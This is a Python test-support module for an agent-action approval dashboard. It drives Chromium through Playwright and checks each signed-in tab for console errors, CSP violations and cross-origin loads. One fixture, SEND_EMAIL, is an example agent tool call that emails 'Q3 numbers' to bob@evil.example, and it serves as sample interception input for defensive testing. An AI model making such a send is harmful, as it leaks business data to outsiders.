"""The dashboard's browser harness: Debian's ``chromium`` driven by the ``playwright``
package with ``executable_path`` (never a downloaded browser), one ``vettra dev`` and
one browser per test module, and a signed-in tab per test for a user of its own.

The fixtures are registered in conftest.py. After every test the tab must have logged
no console error (beyond refusals the test provoked on purpose and declared), reported
no Content-Security-Policy violation (``securitypolicyviolation`` events, collected by
an init script) and loaded nothing from another origin. Screenshots go to
``tests/artifacts/dashboard/``.
"""

from __future__ import annotations

import os
import re
import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pyotp
import pytest

from ..integration.scenarios import CHARGE_500, DELETE_REPO  # noqa: F401 - re-exported
from .conftest import DevServer, mint

REPO = Path(__file__).resolve().parents[2]
ARTIFACTS = REPO / "tests" / "artifacts" / "dashboard"
AXE = REPO / "web" / "node_modules" / "axe-core" / "axe.min.js"
CHROMIUM_FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
LIVE_BUDGET_MS = 500
TIMEOUT_MS = 15_000

SEND_EMAIL = {
    "tool": "gmail.send_message",
    "arguments": {"to": "bob@evil.example", "subject": "Q3 numbers", "body": "See attached."},
}


#: collects the page's CSP violations in window.__cspViolations (read by csp_violations)
CSP_WATCH = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolations.push(`${e.violatedDirective} blocked ${e.blockedURI || "inline"}`);
});
"""


def csp_violations(page: Any) -> list[str]:
    return list(page.evaluate("window.__cspViolations || []"))


def _chromium() -> str:
    path = shutil.which("chromium")
    if path is None:
        pytest.skip(
            "SKIPPED dashboard browser tests: Debian's chromium is not installed "
            "(make browser, or apt-get install chromium)"
        )
    return path


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    executable = _chromium()
    os.environ["PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD"] = "1"
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("SKIPPED dashboard browser tests: the playwright package is not installed")
    with sync_playwright() as p:
        launched = p.chromium.launch(executable_path=executable, args=CHROMIUM_FLAGS)
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def web_server(tmp_path_factory) -> Iterator[DevServer]:
    root = tmp_path_factory.mktemp("dashboard")
    server = DevServer(root / "home", root / "dev.log").start()
    yield server
    code, _ = server.terminate()
    assert code == 0, server.log()


@pytest.fixture(scope="module")
def web_admin(web_server) -> Iterator[httpx.Client]:
    with web_server.client(mint(web_server.home, "admin", "ops")) as c:
        yield c


class Dashboard:
    """One user's tab: the page, its agent, and what the page did."""

    def __init__(self, web_server: DevServer, page: Any, user: str, agent: httpx.Client):
        self.live, self.page, self.user, self.agent = web_server, page, user, agent
        self.origin = f"http://localhost:{web_server.port}"
        #: statuses of refused requests the test provokes on purpose (a wrong code):
        #: Chromium logs each as a console error, which is otherwise a failure
        self.expected_refusals: list[int] = []

    def intercept(self, bundle: dict) -> dict:
        r = self.agent.post("/api/actions/intercept", json=bundle)
        assert r.status_code in (200, 201), r.text
        return r.json()

    def card(self, action_id: str) -> Any:
        return self.page.locator(f"article.card[data-action-id='{action_id}']")

    def long_poll(self, action_id: str) -> dict[str, Any]:
        """Start the agent's ``?wait=`` long-poll now; ``result["view"]`` once answered."""
        result: dict[str, Any] = {}

        def wait() -> None:
            r = self.agent.get(f"/api/actions/{action_id}", params={"wait": 30}, timeout=40)
            result["view"] = r.json()
            result["at"] = time.monotonic()

        result["thread"] = threading.Thread(target=wait, daemon=True)
        result["thread"].start()
        time.sleep(0.2)  # the long-poll is waiting before the decision
        return result

    def shot(self, name: str) -> None:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        for width in (360, 1280):
            self.page.set_viewport_size({"width": width, "height": 900})
            self.page.wait_for_timeout(150)
            self.page.screenshot(path=str(ARTIFACTS / f"{name}-{width}.png"), full_page=True)
        self.page.set_viewport_size({"width": 1280, "height": 900})


def _joined(poll: dict[str, Any]) -> dict[str, Any]:
    poll["thread"].join(35)
    assert "view" in poll, "the agent's long-poll did not answer"
    return poll["view"]


def sign_in_link(web_admin: httpx.Client, web_server: DevServer, user: str) -> str:
    r = web_admin.post("/api/dashboard/links", json={"sub": user})
    assert r.status_code == 201, r.text
    return f"http://localhost:{web_server.port}{r.json()['path']}"


_users = iter(range(10_000))


@pytest.fixture
def dash(browser, web_server, web_admin, request) -> Iterator[Dashboard]:
    user = f"u{next(_users)}-{request.node.name[5:25].replace('_', '-')}"
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(CSP_WATCH)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    problems: list[str] = []
    foreign: list[str] = []
    origin = f"http://localhost:{web_server.port}"
    page.on(
        "console",
        lambda m: problems.append(f"console.{m.type}: {m.text}") if m.type == "error" else None,
    )
    page.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))
    page.on(
        "request",
        lambda r: foreign.append(r.url) if not r.url.startswith((origin + "/", "data:")) else None,
    )
    with web_server.client(mint(web_server.home, "agent", f"agent-of-{user}", user)) as agent:
        d = Dashboard(web_server, page, user, agent)
        page.goto(sign_in_link(web_admin, web_server, user))
        page.wait_for_selector("#queue-title")
        yield d
        violations = csp_violations(page)
        context.close()
    assert violations == [], violations
    refused = re.compile(r"Failed to load resource: the server responded with a status of (\d+)")
    for status in d.expected_refusals:
        match = next(
            (p for p in problems if (m := refused.search(p)) and int(m[1]) == status), None
        )
        assert match is not None, (status, problems)
        problems.remove(match)
    assert problems == [], problems
    assert foreign == [], foreign


def session_client(dash: Dashboard) -> httpx.Client:
    """An HTTP client with the tab's own dashboard session token."""
    token = dash.page.evaluate("JSON.parse(sessionStorage.getItem('vettra.session')).token")
    return dash.live.client(token)


def enrol_totp(dash: Dashboard) -> pyotp.TOTP:
    """Enrol an authenticator app for the tab's user over HTTP (spends the current step)."""
    with session_client(dash) as me:
        started = me.post("/api/approvals/stepup/enroll", json={"method": "totp"}).json()
        totp = pyotp.TOTP(started["secret"])
        done = me.post(
            "/api/approvals/stepup/enroll",
            json={"method": "totp", "enrollment_id": started["enrollment_id"], "code": totp.now()},
        )
        assert done.status_code == 200, done.text
    return totp


def admin_tab(
    browser: Any, web_server: DevServer, web_admin: httpx.Client, sub: str = "ops-admin"
) -> Any:
    """A signed-in admin tab; ``tab.problems`` collects its console errors and page errors."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(CSP_WATCH)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    problems: list[str] = []
    page.on("pageerror", lambda e: problems.append(str(e)))
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    code = web_admin.post("/api/dashboard/links", json={"sub": sub, "role": "admin"}).json()
    page.goto(f"http://localhost:{web_server.port}{code['path']}")
    page.wait_for_selector("#queue-title")
    tab = Dashboard(web_server, page, sub, httpx.Client())
    tab.problems = problems  # type: ignore[attr-defined]
    return tab


def wait_for_checkpoint(web_admin: httpx.Client, timeout_s: float = 10) -> int:
    """Wait until a signed checkpoint covers the whole log; its size."""
    deadline = time.monotonic() + timeout_s
    while True:
        size = web_admin.get("/api/audit/checkpoint").json()["size"]
        if (
            size == web_admin.get("/api/audit/verify").json()["length"]
            or time.monotonic() > deadline
        ):
            return int(size)
        time.sleep(0.3)
